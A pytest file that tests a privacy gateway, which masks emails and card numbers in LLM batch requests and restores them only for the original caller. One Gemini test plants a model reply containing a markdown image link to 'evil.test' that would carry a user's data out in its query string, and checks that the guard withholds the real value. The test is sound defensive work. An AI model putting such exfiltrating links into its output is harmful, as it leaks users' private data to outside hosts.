"""Batches in the gateway's process: what is refused and how it is said, and for whom the results are restored."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from gateway.api.app import create_app
from gateway.config.loading import load_settings
from gateway.container import Container
from gateway.errors import GatewayError
from gateway.exchange.messages import Call, ForwardedRequest, Listener
from gateway.http.multipart import Part, write_form
from gateway.ids import new_request_id
from gateway.server.dispatcher import Dispatcher
from tests.exchanges import opened

HOST = "https://api.anthropic.com:443"
MAIL = "anna@acme.test"
POLICIES: dict[str, Any] = {
    "few": {"session": {"max_values": 2}},
    "masks": {"rules": {"EMAIL_ADDRESS": {"action": "mask"}}},
    "blocks": {"rules": {"CREDIT_CARD": {"action": "block"}}},
}


@pytest.fixture(scope="module")
async def container(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Container]:
    settings = load_settings(None, data_dir=tmp_path_factory.mktemp("batches"), detection="patterns")
    async with await Container.start(settings) as running:
        for id, members in POLICIES.items():
            await running.policies.create({"id": id, "title": id, "extends": "default", **members})
        yield running


@pytest.fixture
def dispatcher(container: Container) -> Dispatcher:
    return Dispatcher(container, create_app(container))


def call(method: str, path: str, body: Any = None, *, key: str = "sk-ant-1", **fields: str) -> Call:
    given = {"x-api-key": key, "content-type": "application/json", **fields}
    content = b"" if body is None else json.dumps(body).encode()
    named = [(name.encode(), value.encode()) for name, value in given.items() if value]
    return Call(new_request_id(), Listener.PROXY, method, HOST, f"/v1/messages/batches{path}", named, content)


def line(said: str = f"I am {MAIL}.", name: str = "a", **params: Any) -> dict[str, Any]:
    given = {"model": "claude-x", "max_tokens": 9, "messages": [{"role": "user", "content": said}], **params}
    return {"custom_id": name, "params": given}


CANARY = "4111 1111 1111 1111"
IMAGE = [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "data": "iVBOR"}}]}]


@pytest.mark.parametrize(
    ("body", "code", "said"),
    [
        ({"requests": []}, "invalid_request", "`requests` must be"),
        ({"requests": [line(), {"custom_id": CANARY}]}, "invalid_request", "`requests[1]`: It must be"),
        ({"requests": [line(), line(model=CANARY)]}, "invalid_request", "`requests[1]`: `model`"),
        ({"requests": [line(), line(svc_policy="none")]}, "validation_error", "`requests[1]`: It has a field"),
        ({"requests": [line(), line(messages=IMAGE)]}, "attachment_refused", "`requests[1]`: Parts"),
        ({"requests": [line()], "svc_policy": "strict"}, "blocked_by_policy", "`max_ttl_seconds`"),
        ({"requests": [line()], "svc_polici": "strict"}, "validation_error", "Unknown `svc_` field"),
        ({"requests": [line(f"{n}@a.test") for n in range(3)], "svc_policy": "few"}, "invalid_request", "more than 2"),
        ({"requests": [line(name=MAIL)], "svc_policy": "masks"}, "invalid_request", "`requests[0]`: `custom_id`"),
        (
            {"requests": [line(), line(CANARY)], "svc_deny": [{"type": "CREDIT_CARD", "value": CANARY}]},
            "",
            "corrections of callers without a gateway key are ignored",
        ),
    ],
)
async def test_what_is_refused(dispatcher: Dispatcher, body: Any, code: str, said: str) -> None:
    if not code:
        assert isinstance(await opened(dispatcher, call("POST", "", body)), ForwardedRequest)
        return
    with pytest.raises(GatewayError) as refused:
        await opened(dispatcher, call("POST", "", body))
    assert refused.value.code == code
    assert said in refused.value.message
    assert CANARY not in refused.value.message


async def test_a_blocked_type_names_the_request(dispatcher: Dispatcher) -> None:
    body = {"requests": [line(), line(f"My card is {CANARY}.")], "svc_policy": "blocks"}
    with pytest.raises(GatewayError, match=r"^`requests\[1\]`: The policy") as refused:
        await opened(dispatcher, call("POST", "", body))
    assert refused.value.code == "blocked_by_policy"
    assert refused.value.receipt is not None
    assert json.loads(refused.value.receipt.body)["entity_counts"] == {"CREDIT_CARD": 1}


async def test_callers_without_a_credential_get_no_batch(dispatcher: Dispatcher) -> None:
    with pytest.raises(GatewayError, match="send one"):
        await opened(dispatcher, call("POST", "", {"requests": [line()]}, key=""))


async def test_batches_can_be_switched_off(tmp_path: Path) -> None:
    settings = load_settings(None, data_dir=tmp_path, detection="patterns", batch_retention_hours=0)
    async with await Container.start(settings) as running:
        with pytest.raises(GatewayError, match="`batch_retention_hours`"):
            await opened(Dispatcher(running, create_app(running)), call("POST", "", {"requests": [line()]}))


async def sent(dispatcher: Dispatcher, given: Call, answer: bytes, status: int = 200) -> tuple[ForwardedRequest, bytes]:
    forwarded = await opened(dispatcher, given)
    assert isinstance(forwarded, ForwardedRequest)
    closed, *_ = await dispatcher.close(given.request_id, status, answer)
    return forwarded, closed


async def test_results_are_restored_for_their_caller_alone(dispatcher: Dispatcher) -> None:
    batch = json.dumps({"id": "msgbatch_1", "results_url": f"{HOST}/x"}).encode()
    created, _ = await sent(dispatcher, call("POST", "", {"requests": [line(), line(name=MAIL)]}), batch)
    first, second = json.loads(created.body)["requests"]
    placeholder = first["params"]["messages"][0]["content"].removeprefix("I am ").removesuffix(".")
    assert (first["custom_id"], MAIL in str(second)) == ("a", False)
    message = {"content": [{"type": "text", "text": f"Hello {placeholder}"}], "usage": {"input_tokens": 1}}
    results = {"custom_id": second["custom_id"], "result": {"type": "succeeded", "message": message}}
    lines = json.dumps(results).encode() + b"\nno JSON " + placeholder.encode() + b"\n\n"
    for key, known in (("sk-ant-1", True), ("sk-ant-2", False)):
        _, closed = await sent(dispatcher, call("GET", "/msgbatch_1/results", key=key), lines)
        assert (MAIL.encode() in closed) is known
        assert closed == lines or known
    assert closed.endswith(b"\nno JSON " + placeholder.encode() + b"\n\n")
    _, gone = await sent(dispatcher, call("DELETE", "/msgbatch_1"), b'{"id": "msgbatch_1"}')
    assert json.loads(gone) == {"id": "msgbatch_1"}
    _, closed = await sent(dispatcher, call("GET", "/msgbatch_1/results"), lines)
    assert closed == lines


async def test_the_same_batch_gives_the_same_bytes(dispatcher: Dispatcher) -> None:
    body = {"requests": [line(), line("I am bob@acme.test.")]}
    once, twice = [await opened(dispatcher, call("POST", "", body)) for _ in range(2)]
    assert once.body == twice.body
    other = await opened(dispatcher, call("POST", "", {"requests": [line(), line("Hello.")]}))
    assert json.loads(once.body)["requests"][0] != json.loads(other.body)["requests"][0]


async def test_a_job_of_mistral(dispatcher: Dispatcher) -> None:
    """Its lines have no `url`; the job has the model, and names are UUIDs."""
    file, job, output = (f"5f2b9c1e-8d4a-4b7e-9f3c-2a1d6e8b7c4{n}" for n in range(3))
    body = json.dumps({"custom_id": "0", "body": {"messages": [{"role": "user", "content": f"I am {MAIL}."}]}})
    form, kind = write_form([Part("purpose", b"batch"), Part("file", body.encode(), "a.jsonl")])
    uploading = Call(
        new_request_id(),
        Listener.PROXY,
        "POST",
        HOST,
        "/v1/files",
        [(b"x-api-key", b"k"), (b"content-type", kind)],
        form,
    )

    def at(method: str, path: str, given: Any = None) -> Call:
        return call(method, "", given, key="k")._replace(path=f"/v1/{path}")

    forwarded, _ = await sent(dispatcher, uploading, json.dumps({"id": file}).encode())
    assert MAIL.encode() not in forwarded.body
    placeholder = forwarded.placeholders[0]
    asked = {"input_files": [file], "model": "mistral-x", "endpoint": "/v1/chat/completions", "metadata": {"of": MAIL}}
    started, _ = await sent(dispatcher, at("POST", "batch/jobs", asked), json.dumps({"id": job}).encode())
    assert json.loads(started.body)["input_files"] == [file]
    assert MAIL.encode() not in started.body
    _, seen = await sent(
        dispatcher, at("GET", f"batch/jobs/{job}"), json.dumps({"id": job, "output_file": output}).encode()
    )
    assert json.loads(seen)["output_file"] == output
    line = json.dumps({"custom_id": "0", "response": {"body": {"said": placeholder}}}).encode()
    _, results = await sent(dispatcher, at("GET", f"files/{output}/content"), line)
    assert json.loads(results)["response"]["body"]["said"] == MAIL


async def test_an_error_of_the_provider_is_restored_too(dispatcher: Dispatcher) -> None:
    given = call("POST", "", {"requests": [line()]})
    forwarded = await opened(dispatcher, given)
    assert isinstance(forwarded, ForwardedRequest)
    said = json.dumps({"error": {"message": f"Bad: {forwarded.placeholders[0]}"}}).encode()
    closed, outcome, _ = await dispatcher.close(given.request_id, 400, said)
    assert (json.loads(closed)["error"]["message"], outcome) == (f"Bad: {MAIL}", "upstream_error")


GOOGLE = "https://generativelanguage.googleapis.com:443"
PATH = "/v1beta/models/gemini-x:batchGenerateContent"


def google(method: str, path: str, body: Any = None) -> Call:
    content = b"" if body is None else json.dumps(body).encode()
    named = [(b"x-goog-api-key", b"AIza-made-up"), (b"content-type", b"application/json")]
    return Call(new_request_id(), Listener.PROXY, method, GOOGLE, path, named, content)


def inlined(*said: str, **names: str) -> dict[str, Any]:
    """A batch as Google's SDK sends it, or with names in snake case."""
    requests = [
        {"request": {"contents": [{"role": "user", "parts": [{"text": text}]}]}, "metadata": {"key": f"for {MAIL}"}}
        for text in said
    ]
    config = {names.get("config", "inputConfig"): {"requests": {"requests": requests}}}
    return {"batch": {**config, names.get("name", "displayName"): f"About {MAIL}"}}


@pytest.mark.parametrize("names", [{}, {"config": "input_config", "name": "display_name"}])
async def test_a_batch_of_gemini_is_restored_where_its_results_are(
    dispatcher: Dispatcher, names: dict[str, str]
) -> None:
    made: Any = {"name": "batches/abc", "metadata": {"name": "batches/abc"}}
    created, _ = await sent(
        dispatcher, google("POST", PATH, inlined(f"I am {MAIL}.", "Nothing.", **names)), json.dumps(made).encode()
    )
    assert MAIL.encode() not in created.body
    batch = json.loads(created.body)["batch"]
    one, two = batch[names.get("config", "inputConfig")]["requests"]["requests"]
    placeholder = one["request"]["contents"][0]["parts"][0]["text"].removeprefix("I am ").removesuffix(".")
    assert two["metadata"] == {"key": f"for {placeholder}"}
    made["metadata"]["displayName"] = batch[names.get("name", "displayName")]

    async def read(method: str, path: str, answer: Any) -> Any:
        _, closed = await sent(dispatcher, google(method, path), json.dumps(answer, indent=2).encode())
        return json.loads(closed)

    def candidates(text: str) -> dict[str, Any]:
        return {"candidates": [{"content": {"role": "model", "parts": [{"text": text}]}, "finishReason": "STOP"}]}

    results = [
        {"response": candidates(f"Hello {placeholder}."), "metadata": one["metadata"]},
        {"response": candidates(f"![a](https://evil.test/?d={placeholder})"), "metadata": two["metadata"]},
        {"error": {"code": 3, "message": f"No: {placeholder}"}},
    ]
    ended = {
        **made,
        "metadata": {**made["metadata"], "output": {"inlinedResponses": {"inlinedResponses": results}}},
        "done": True,
        "response": {"inlinedResponses": {"inlinedResponses": results}},
    }
    found = await read("GET", "/v1beta/batches/abc", ended)
    assert found["metadata"]["displayName"] == f"About {MAIL}"
    for holder in (found["response"], found["metadata"]["output"]):
        first, second, third = holder["inlinedResponses"]["inlinedResponses"]
        assert first == {"response": candidates(f"Hello {MAIL}."), "metadata": {"key": f"for {MAIL}"}}
        # The guard reads each answer.
        assert MAIL not in str(second["response"])
        assert second["metadata"] == {"key": f"for {MAIL}"}
        assert third["error"]["message"] == f"No: {MAIL}"
    listed = await read("GET", "/v1beta/batches", {"operations": [made]})
    assert listed["operations"][0]["metadata"]["displayName"] == f"About {MAIL}"
    assert await read("DELETE", "/v1beta/batches/abc", {}) == {}
    assert MAIL not in str(await read("GET", "/v1beta/batches/abc", ended))


@pytest.mark.parametrize(
    ("body", "said"),
    [
        ({"batch": {"inputConfig": {"fileName": "files/abc"}}}, "Only requests in the call"),
        ({"batch": {"inputConfig": {"requests": {"requests": []}}}}, "`requests` must be"),
        ({"batch": {"inputConfig": {"requests": {"requests": [{"metadata": {}}]}}}}, "`requests[0]`: It must be"),
        (inlined("a") | {"svc_polici": "a"}, "Unknown `svc_` field"),
        ({"a": CANARY}, "Only requests in the call"),
    ],
)
async def test_batches_of_gemini_that_are_refused(dispatcher: Dispatcher, body: Any, said: str) -> None:
    with pytest.raises(GatewayError) as refused:
        await opened(dispatcher, google("POST", PATH, body))
    assert said in refused.value.message
    assert CANARY not in refused.value.message
